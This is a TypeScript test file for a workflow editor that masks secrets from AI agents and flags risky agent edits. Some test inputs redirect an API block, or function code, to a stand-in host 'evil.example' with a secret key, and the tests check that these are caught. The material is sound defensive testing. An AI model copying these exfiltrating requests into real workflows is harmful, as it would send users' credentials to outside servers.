import { describe, expect, test } from 'vitest';
import { applyChange } from '../assistant/apply-change';
import { ProposedChange } from '../assistant/change';
import { HiddenValues } from '../assistant/hidden-values';
import { diffDocuments } from '../workflow/diff-documents';
import { WorkflowDocument } from '../workflow/schema';
import { atOnce } from '../workflow/steps';
import { cautionsOf } from './cautions';
import { diffText } from './diff-text';
import { placeAdded } from './place-added';
import { bothDocuments, restoredDocument, shownDocument, withoutHidden } from './shown-document';
import { workflowText } from './workflow-text';

const TYPED = 'sk-live-0123456789abcdef';

function documentOf(configs: Record<string, object> = {}): WorkflowDocument {
  const block = (id: string, type: string, x: number, config: object) => [
    id,
    { id, type, name: id, position: { x, y: 0 }, config: { ...config, ...configs[id] } },
  ];
  return WorkflowDocument.parse({
    blocks: Object.fromEntries([
      block('start', 'start', 0, {}),
      block('fetch', 'api', 256, {
        url: 'https://shop.example/orders?key={{SHOP_KEY}}',
        headers: [
          { key: 'Authorization', value: `Bearer ${TYPED}` },
          { key: 'Accept', value: 'application/json' },
        ],
      }),
      block('sign', 'function', 512, { code: `const key = '${TYPED}';\nreturn key.length;` }),
    ]),
    edges: [
      { id: 'e1', source: 'start', target: 'fetch' },
      { id: 'e2', source: 'fetch', target: 'sign' },
    ],
  });
}

const hiddenOf = (document: WorkflowDocument) =>
  new HiddenValues({ document, nonce: 'abc', secrets: ['value-of-shop-key'] });
const shown = (document: WorkflowDocument) => atOnce(shownDocument(document, hiddenOf(document)));
const withBlock = (document: WorkflowDocument, id: string, config: object): WorkflowDocument => ({
  ...document,
  blocks: { ...document.blocks, [id]: { ...document.blocks[id]!, config: { ...config } } },
});

describe('a document as agents see it', () => {
  test('has marks for what is hidden, the same each time, which become values in the same setting', () => {
    const document = documentOf();
    const told = shown(document);
    expect(JSON.stringify(told)).not.toContain(TYPED);
    expect(JSON.stringify(told)).toContain('{{SHOP_KEY}}');
    expect(told).toEqual(shown(document));
    const hidden = hiddenOf(document);
    atOnce(shownDocument(document, hidden));
    expect(atOnce(restoredDocument(told, document, hidden))).toEqual({ ok: true, document });
  });

  test('a mark that was moved to another setting, or is of another reading, is refused or stays', () => {
    const document = documentOf();
    const told = shown(document);
    const mark = /\[\[hidden-abc-\d+\]\]/.exec(JSON.stringify(told.blocks.sign))?.[0];
    expect(mark).toBeDefined();
    const moved = withBlock(told, 'start', { fields: [{ name: 'x', type: 'string', default: mark }] });
    const hidden = hiddenOf(document);
    atOnce(shownDocument(document, hidden));
    expect(atOnce(restoredDocument(moved, document, hidden))).toMatchObject({
      ok: false,
      problems: [expect.stringContaining('Block "start", fields')],
    });
  });

  test('what changed computes with marks, what did not keeps its values', () => {
    const base = documentOf();
    const code = `const key = '${TYPED}';\nreturn [...key].join('.');`;
    const document = withBlock(base, 'sign', { code });
    const tried = atOnce(withoutHidden(base, document, hiddenOf(bothDocuments(base, document))));
    expect(JSON.stringify(tried.blocks.sign)).not.toContain(TYPED);
    expect(JSON.stringify(tried.blocks.sign)).toContain('[[hidden-abc-');
    expect(tried.blocks.fetch).toEqual(base.blocks.fetch);
  });

  test('as text it names blocks, what leads to them, and their settings', () => {
    const text = workflowText(shown(documentOf()));
    expect(text).toContain('fetch (id fetch, type api)\n  after: start');
    expect(text).toContain('url = "https://shop.example/orders?key={{SHOP_KEY}}"');
    expect(text).not.toContain(TYPED);
  });

  test('a diff as text names what differs, with marks', () => {
    const base = documentOf();
    const document = withBlock(base, 'sign', { code: `return '${TYPED}'.length;` });
    const hidden = hiddenOf(bothDocuments(base, document));
    const see = (each: WorkflowDocument) => atOnce(shownDocument(each, hidden));
    const text = diffText(diffDocuments(see(base), see(document)));
    expect(text).toContain('changed: block sign (id sign, type function)\n  config.code: ');
    expect(text).not.toContain(TYPED);
    expect(diffText(diffDocuments(base, base))).toBe('Nothing differs.');
  });
});

describe('what to look at', () => {
  const cautions = (configs: Record<string, object>) =>
    cautionsOf(documentOf(), documentOf(configs), new Set(['PLAIN']));

  test('another server, another secret, credentials that go elsewhere, and a server from values', () => {
    expect(cautions({})).toEqual([]);
    expect(cautions({ fetch: { url: 'https://shop.example/other?key={{SHOP_KEY}}&x={{PLAIN}}' } })).toEqual(
      [],
    );
    expect(cautions({ fetch: { url: 'https://evil.example/?k={{OTHER_KEY}}' } })).toEqual([
      expect.stringContaining('names evil.example'),
      expect.stringContaining('uses {{OTHER_KEY}}'),
      expect.stringContaining('another address'),
    ]);
    expect(cautions({ fetch: { url: 'https://<start.host>/' } })).toContainEqual(
      expect.stringContaining('from values of the run'),
    );
    expect(cautions({ sign: { code: 'fetch("http://me@evil.example:1/x")' } })).toEqual([
      expect.stringContaining('“sign” names evil.example'),
    ]);
  });
});

describe('new blocks', () => {
  test('get a place of their own, behind those that lead to them', () => {
    const base = documentOf();
    const change = ProposedChange.parse({
      blocks: [
        { id: 'late', type: 'response', name: 'late' },
        { id: 'early', type: 'function', name: 'early' },
        { id: 'alone', type: 'function', name: 'alone' },
      ],
      edges: [
        { source: 'early', target: 'late' },
        { source: 'start', target: 'early' },
      ],
    });
    const { blocks } = placeAdded(base, applyChange(base, change));
    expect(blocks.early!.position.x).toBe(256);
    expect(blocks.late!.position.x).toBe(512);
    const places = Object.values(blocks).map(({ position: { x, y } }) => `${x} ${y}`);
    expect(new Set(places).size).toBe(places.length);
    expect(blocks.fetch).toEqual(base.blocks.fetch);
  });
});
